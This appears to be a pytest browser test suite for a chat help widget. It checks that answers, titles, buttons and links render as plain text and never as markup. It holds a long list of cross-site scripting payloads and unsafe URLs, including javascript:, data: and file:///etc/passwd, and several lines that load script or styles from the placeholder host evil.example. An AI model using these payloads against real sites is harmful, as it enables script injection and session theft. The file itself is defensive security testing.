"""Whatever articles, questions, buttons, titles, labels and links say: nothing of it runs, nothing of it is markup."""

from __future__ import annotations

from collections.abc import Callable, Iterator
from typing import Any

import pytest
from widget_browser import Widget

from bot.locales import get_texts

NEW_TAB = get_texts("en-US")("widget.new_tab")

MARKUP = [
    "<script>boom()</script>",
    "<ScRiPt>boom()</sCrIpT>",
    "<script src=https://evil.example/x.js></script>",
    "</script><script>boom()</script>",
    "<scr<script>ipt>boom()</scr</script>ipt>",
    "<img src=x onerror=boom()>",
    "<IMG SRC=x OnErRoR=boom()>",
    "<img/src=x/onerror=boom()>",
    '<img src=x onerror="boom()" x=\'',
    "<img src='x' onerror='boom()'//>",
    "<svg onload=boom()>",
    "<svg/onload=boom()>",
    "<svg><script>boom()</script></svg>",
    "<svg><animate onbegin=boom() attributeName=x dur=1s>",
    "<svg><set attributeName=onmouseover to=boom()>",
    "<svg><use href='data:image/svg+xml,<svg id=x onload=boom()>#x'/></svg>",
    "<svg><a xlink:href='javascript:boom()'><text>x</text></a></svg>",
    "<math><mi xlink:href='javascript:boom()'>x</mi></math>",
    "<math><mtext><table><mglyph><style><img src=x onerror=boom()>",
    "<iframe src=javascript:boom()></iframe>",
    "<iframe srcdoc='<script>parent.boom()</script>'></iframe>",
    "<object data=javascript:boom()></object>",
    "<embed src=javascript:boom()>",
    "<form action=javascript:boom()><button>x</button></form>",
    "<button formaction=javascript:boom()>x</button>",
    "<input autofocus onfocus=boom()>",
    "<select autofocus onfocus=boom()>",
    "<textarea autofocus onfocus=boom()></textarea>",
    "<details open ontoggle=boom()>x</details>",
    "<video src=x onerror=boom()></video>",
    "<audio src=x onerror=boom()>",
    "<video><source onerror=boom()></video>",
    "<body onload=boom()>",
    "<body onpageshow=boom()>",
    "<marquee onstart=boom()>x</marquee>",
    "<style>@import 'https://evil.example/x.css';*{display:none}</style>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
    "<base href=https://evil.example/>",
    "<a href=javascript:boom()>x</a>",
    "<div style='background:url(javascript:boom())'>x</div>",
    "<div onpointerrawupdate=boom() style=position:fixed;inset:0>x</div>",
    "<template><script>boom()</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=boom()>'>",
    "<title><img src=x onerror=boom()></title>",
    "<textarea></textarea><img src=x onerror=boom()>",
    "<!--><img src=x onerror=boom()>-->",
    "<![CDATA[<img src=x onerror=boom()>]]>",
    "<?xml-stylesheet href='javascript:boom()'?>",
    "<partner-guide onclick=boom()></partner-guide>",
    "<slot></slot><img src=x onerror=boom()>",
    '"><img src=x onerror=boom()>',
    "' autofocus onfocus='boom()",
    "&lt;img src=x onerror=boom()&gt;",
    "\\u003cimg src=x onerror=boom()\\u003e",
    "\x3cimg src=x onerror=boom()\x3e",
    "＜img src=x onerror=boom()＞",
    "{{constructor.constructor('boom()')()}}",
    "${boom()}",
    "`${boom()}`",
    "javascript:boom()",
    "\u202e<img src=x onerror=boom()>\u202c",
    "<img src=x onerror=boom()>\U0001f600 1. • **x**",
    "[x](javascript:boom())",
    "[x](JaVaScRiPt:boom())",
    "[x](\tjavascript:boom())",
    "[x](data:text/html,<script>boom()</script>)",
    "[x](vbscript:boom())",
    "![x](https://evil.example/x.png)",
    "[<img src=x onerror=boom()>](https://learn.microsoft.com)",
    "**<img src=x onerror=boom()>**",
    "`<img src=x onerror=boom()>`",
    'https://learn.microsoft.com/"onmouseover="boom()',
    "https://learn.microsoft.com/<img src=x onerror=boom()>",
]
ADDRESSES = [
    "javascript:boom()",
    "JAVASCRIPT:boom()",
    " javascript:boom()",
    "java\nscript:boom()",
    "java\tscript:boom()",
    "\x01javascript:boom()",
    "javascript://learn.microsoft.com/%0aboom()",
    "data:text/html,<script>boom()</script>",
    "data:text/html;base64,PHNjcmlwdD5ib29tKCk8L3NjcmlwdD4=",
    "vbscript:boom()",
    "blob:https://learn.microsoft.com/x",
    "file:///etc/passwd",
    "filesystem:https://learn.microsoft.com/x",
    "view-source:https://learn.microsoft.com",
    "intent://x#Intent;scheme=https;end",
    "//evil.example/x",
    "/search",
    "x",
    "https://learn.microsoft.com@evil.example/",
    "https://user:secret@evil.example/",
    "https://",
    "",
]


@pytest.fixture(scope="module")
def guide(browser: Any, server: Any) -> Iterator[Widget]:
    context = browser.new_context(locale="en-US", bypass_csp=True)  # the policy would hide what the code lets through
    guide = Widget(context.new_page(), server.url)
    guide.page.add_init_script("window.boom = () => { window.boomed = (window.boomed || 0) + 1; }")
    guide.page.on("dialog", lambda dialog: dialog.dismiss())
    yield guide.visit().open()
    context.close()


def citation(words: str, url: str | None) -> dict[str, Any]:
    return {
        "article_id": words,
        "anchor": words,
        "title": f"T {words}",
        "heading": f"H {words}",
        "url": url,
        "locale": words,
        "clouds": [words],
        "roles": [words],
        "source": words,
    }


def answer_of(words: str, url: str | None) -> dict[str, Any]:
    """An answer that says something everywhere that an article, or a server gone bad, could say it."""
    label = {"id": words, "text": words}
    link = {"start": 0, "end": max(1, len(words) // 2), "url": url}
    quoted = {
        "clouds": [words],
        "quote": f"{words}\n\n• {words}\n  {words}\n1. {words}",
        "citation": citation(words, url),
        "confidence": 1,
        "labels": [label],
        "links": [link],
        "original": words,
    }
    return {
        "status": "answered",
        "locale": words,
        "intro": words,
        "answers": [quoted, quoted],
        "related": [citation(words, url)],
        "labels": [label, {"id": "x", "text": f"{words} "}],
        "ask_cloud": True,
        "chosen_cloud": words,
    }


def show(guide: Widget, payload: dict[str, Any], words: str) -> Any:
    """Have the server say that; what stands there then."""
    guide.page.evaluate("window.boomed = 0")
    last = guide.page.evaluate("Math.max(0, JSON.parse(Object.values(sessionStorage)[0]).last)")
    messages = [
        {"seq": last + 1, "from": "user", "time": "", "text": words},
        {
            "seq": last + 2,
            "from": "guide",
            "time": words,
            "text": words,
            "custom": payload,
            "buttons": [{"title": words, "value": words}],
        },
    ]
    guide.page.unroute_all()
    guide.page.route(
        "**/webhooks/widget/message", lambda route: route.fulfill(json={"messages": messages, "last": last + 2})
    )
    before = guide.answers.count()
    guide.box.fill(words)
    guide.box.press("Enter")
    guide.answers.nth(before).wait_for()
    guide.settle()
    return guide.answers.last


# What an answer is made of: nothing else may appear in it.
ALLOWED = set(
    "article span p ul ol li figure figcaption blockquote div section h4 a button cite strong em code svg path".split()
)


FIRE = "(node, kind) => node.querySelectorAll('*').forEach((one) => one.dispatchEvent(new Event(kind)))"
FOUND = """node => [...node.querySelectorAll('*')].map((one) => [
    one.localName,
    [...one.attributes].map((each) => each.name).filter((name) => /^(on|style|srcdoc|formaction|src$)/i.test(name)),
    one.getAttribute('href'),
])"""


def check(guide: Widget, node: Any) -> None:
    found = node.evaluate(FOUND)
    assert {name for name, _, _ in found} <= ALLOWED
    assert [attributes for _, attributes, _ in found if attributes] == []
    hrefs = [href for _, _, href in found if href is not None]
    assert all(href.startswith(("https://", "http://", "mailto:")) for href in hrefs), hrefs
    for button in node.locator("button:not(.ask):not(.choices button)").all():
        if button.is_visible():
            button.dispatch_event("click")
    for kind in ("mouseover", "focus", "pointerenter"):
        node.evaluate(FIRE, kind)
    guide.page.wait_for_timeout(20)
    assert guide.page.evaluate("window.boomed") == 0
    assert guide.page.evaluate("document.querySelectorAll('img[src=x], iframe, object, embed').length") == 0
    assert not any("evil.example" in url for url in guide.requested)


def test_there_are_enough_of_them() -> None:
    assert len(set(MARKUP)) + len(set(ADDRESSES)) == len(MARKUP) + len(ADDRESSES) - 1 >= 90


@pytest.mark.parametrize("words", MARKUP)
def test_markup_is_words(words: str, guide: Widget) -> None:
    node = show(guide, answer_of(words, "https://learn.microsoft.com/x"), words)
    check(guide, node)
    quote = node.locator("blockquote").first.evaluate("node => node.textContent").replace(NEW_TAB, "")
    assert "".join(words.split()) in "".join(quote.split())
    assert "".join(guide.mine.last.locator("p").inner_text().split()) == "".join(words.split())


@pytest.mark.parametrize("words", MARKUP)
def test_what_the_guide_says_is_words_too(words: str, guide: Widget) -> None:
    check(guide, show(guide, {"locale": "en-US"}, words))
    none = {**answer_of(words, None), "status": "abstained", "elsewhere": [citation(words, words)]}
    check(guide, show(guide, none, words))


@pytest.mark.parametrize("address", ADDRESSES)
def test_an_address_that_may_not_be_followed_is_no_link(address: str, guide: Widget) -> None:
    node = show(guide, answer_of("Words", address), "words")
    assert node.locator("a").count() == 0
    check(guide, node)


@pytest.mark.parametrize(
    ("address", "host"),
    [
        ("https://www.learn.microsoft.com/x?y#z", "learn.microsoft.com"),
        ("http://partner.microsoft.com:8080/", "partner.microsoft.com:8080"),
        ("mailto:help@example.com", "help@example.com"),
        ("https://xn--pypal-4ve.example/", "xn--pypal-4ve.example"),
        ("https://p\u0430ypal.example/", "xn--pypal-4ve.example"),
    ],
)
def test_a_link_shows_its_host(address: str, host: str, guide: Widget) -> None:
    node = show(guide, answer_of("Words", address), "words")
    link = node.locator("a.inline").first
    assert link.get_attribute("data-host") == host
    assert link.evaluate("node => getComputedStyle(node, '::after').content") == f'" {host}"'
    assert node.locator("a.cited .host").first.inner_text().strip() == host
    assert {a.get_attribute("rel") for a in node.locator("a").all()} == {"noopener noreferrer"}


def test_a_question_is_words(widget: Callable[..., Widget]) -> None:
    """To the real server and back, over a reload as well."""
    guide = widget().visit().open()
    words = "<img src=x onerror=alert(1)><b>who pays?</b>"
    guide.ask(words)
    guide.page.reload()
    guide.mine.first.wait_for()
    assert guide.mine.first.locator("p").inner_text() == words
    assert guide.page.locator("partner-guide").locator("img, b").count() == 0
